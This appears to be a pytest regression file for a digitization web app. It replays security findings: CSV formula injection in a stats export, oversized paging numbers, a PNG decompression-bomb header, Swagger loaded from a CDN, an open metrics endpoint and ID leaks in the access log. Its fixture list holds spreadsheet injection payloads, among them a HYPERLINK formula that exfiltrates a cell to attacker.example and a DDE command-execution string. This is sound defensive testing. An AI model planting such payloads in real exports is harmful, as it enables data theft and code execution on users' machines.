"""Issue 12, finding 9 (smaller doors), each replayed: CSV formula injection in /stats.csv; 500s on huge
paging numbers and on page images of a refused decompression bomb; /docs loading Swagger UI from a CDN;
/metrics open to anyone; holder IDs in uvicorn's access log; undocumented 400s in the OpenAPI."""

from __future__ import annotations

import csv
import io
import logging
import struct
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from digitize.config import reset_settings
from digitize.ingest import ingest_paths
from tests.api.conftest import auth
from tests.support.store_data import stored_document

FORMULAS = ('=HYPERLINK("http://attacker.example/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")


def test_stats_csv_cells_never_start_a_formula(login: Callable[[str], TestClient], tmp_path: Path) -> None:
    for n, formula in enumerate(FORMULAS):
        stored_document(tmp_path, f"f{n}.pdf", {"type_name": formula})
    client = login("admin")
    year = datetime.now(UTC).year
    r = client.get(f"/stats.csv?year={year}&fresh=1")
    assert r.status_code == 200
    assert r.headers["content-disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    assert not any(c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].isdigit()) for c in cells)


@pytest.mark.parametrize(
    "path", ["/api/v1/documents", "/api/v1/batches", "/api/v1/review", "/api/v1/access-log"]
)
@pytest.mark.parametrize("offset", ["99999999999999999999", "9223372036854775808", "-1"])
def test_huge_paging_numbers_are_refused_not_500(
    bare_client: TestClient, make_key: Callable[..., str], path: str, offset: str
) -> None:
    key = make_key("admin")
    r = bare_client.get(path, params={"offset": offset}, headers=auth(key))
    assert r.status_code == 422, (path, r.status_code, r.text)
    assert r.json()["error"]["code"] == "bad_input"
    r = bare_client.get(path, params={"limit": offset}, headers=auth(key))
    assert r.status_code == 422, (path, r.status_code)
    assert bare_client.get(path, params={"offset": "1000000"}, headers=auth(key)).status_code == 200


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares width x height pixels in a few dozen bytes (a decompression bomb's header)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + chunk(b"IEND", b"")
    )


def test_page_image_of_a_decompression_bomb_is_a_clear_4xx(
    login: Callable[[str], TestClient], tmp_path: Path
) -> None:
    bomb = tmp_path / "bom.png"
    bomb.write_bytes(_png_header_only(40000, 40000))  # 1.6 Gpx
    corrupt = tmp_path / "hong.png"
    corrupt.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    # refused at the door now (issue 12's leftover) ...
    report = ingest_paths([bomb, corrupt])
    assert report.document_ids == []
    assert [i.error.code for i in report.items if i.error] == ["input_too_large", "corrupt_input"]
    # ... and the page image of such a file a store took in before that is still a clear 4xx
    client = login("reviewer")
    r = client.get(f"/documents/{_plant(bomb)}/pages/0.png")
    assert r.status_code == 422, r.status_code
    assert "bom" in r.text.lower() or "quá lớn" in r.text
    assert client.get(f"/documents/{_plant(corrupt)}/pages/0.png").status_code == 422


def _plant(path: Path) -> str:
    """A document whose original was stored without the check that it opens (a store from before)."""
    from digitize.store import db
    from digitize.store.models import RECEIVED, Document
    from digitize.store.objects import get_object_store, original_key, sha256_file

    sha = sha256_file(path)
    get_object_store().put_file(original_key(sha), path, media_type="image/png")
    with db.session() as s:
        doc = Document(
            sha256=sha,
            media_type="image/png",
            size=path.stat().st_size,
            original_filename=path.name,
            original_key=original_key(sha),
            state=RECEIVED,
        )
        s.add(doc)
        s.flush()
        return str(doc.id)


def test_docs_are_served_locally(web: TestClient) -> None:
    r = web.get("/docs")
    assert r.status_code == 200
    assert "cdn" not in r.text.lower() and "https://" not in r.text and "http://" not in r.text
    assert "<script>" not in r.text  # no inline script: the page's CSP allows only our own files
    csp = r.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "default-src 'none'" in csp
    bundle = web.get("/docs/assets/swagger-ui-bundle.js")
    assert bundle.status_code == 200 and len(bundle.content) > 100_000
    assert web.get("/docs/assets/swagger-ui.css").status_code == 200
    assert "SwaggerUIBundle" in web.get("/docs/init.js").text


def test_metrics_not_open_by_default(
    bare_client: TestClient, make_key: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert bare_client.get("/metrics").status_code == 401
    assert bare_client.get("/metrics", headers=auth(make_key("officer"))).status_code == 403
    assert bare_client.get("/metrics", headers=auth(make_key("admin"))).status_code == 200
    monkeypatch.setenv("DIGITIZE_METRICS_TOKEN", "scraper-secret-0123456789")
    reset_settings()
    assert bare_client.get("/metrics", headers=auth("scraper-secret-0123456789")).status_code == 200
    assert bare_client.get("/metrics", headers=auth("wrong")).status_code == 401
    monkeypatch.setenv("DIGITIZE_METRICS", "off")
    reset_settings()
    assert bare_client.get("/metrics", headers=auth(make_key("admin"))).status_code == 404
    monkeypatch.setenv("DIGITIZE_METRICS", "open")
    reset_settings()
    assert bare_client.get("/metrics").status_code == 200


def test_access_log_has_no_query_strings() -> None:
    import uvicorn

    from digitize.api.app import create_app

    app = create_app(start_pool=False)
    uvicorn.Config(app, log_level="info")  # uvicorn configures its loggers here, after the app exists
    lines: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(record.getMessage())

    access = logging.getLogger("uvicorn.access")
    keep = Keep()
    access.addHandler(keep)
    try:
        # exactly what uvicorn's httptools/h11 protocols log for a request
        access.info(
            '%s - "%s %s HTTP/%s" %d',
            "10.0.0.7:5100",
            "GET",
            "/api/v1/documents?holder_id=0101234567&q=Nguy%E1%BB%85n",
            "1.1",
            200,
        )
    finally:
        access.removeHandler(keep)
    assert lines and "0101234567" not in lines[0] and "Nguy" not in lines[0]
    assert "/api/v1/documents" in lines[0] and "200" in lines[0]


def test_undocumented_400s_are_documented(bare_client: TestClient, make_key: Callable[..., str]) -> None:
    key = make_key("admin")
    spec = bare_client.get("/openapi.json").json()
    r = bare_client.post("/api/v1/batches", files={"other": ("a.txt", b"x")}, headers=auth(key))
    assert r.status_code == 400
    assert "400" in spec["paths"]["/api/v1/batches"]["post"]["responses"]
    r = bare_client.post(
        "/api/v1/documents/x/revoke",
        content=b"{not json",
        headers={**auth(key), "Content-Type": "application/json"},
    )
    assert r.status_code in (400, 422)  # FastAPI: 422 for bad JSON, 400 for a body it cannot decode
    assert str(r.status_code) in spec["paths"]["/api/v1/documents/{document_id}/revoke"]["post"]["responses"]


def test_unicode_digits_in_paging_numbers_are_not_500(login: Callable[[str], TestClient]) -> None:
    """``"²".isdigit()`` is True and ``int("²")`` raises: ``?page=²`` and ``?year=²`` were 500s, and so was a
    stack boundary "²" (every door parses numbers as ASCII digits now; headers' Content-Length too)."""
    from tests.web.conftest import csrf_of

    client = login("admin")
    for url in ("/search?page=%C2%B2", "/review?page=%C2%B2", "/stats?year=%C2%B2", "/search?page=%D9%A1"):
        r = client.get(url)
        assert r.status_code == 200, (url, r.status_code)
    client = login("archivist")
    token = csrf_of(client.get("/upload").text)
    r = client.post("/stacks/nope", data={"csrf_token": token, "starts": "0,²"})
    assert 400 <= r.status_code < 500, r.status_code
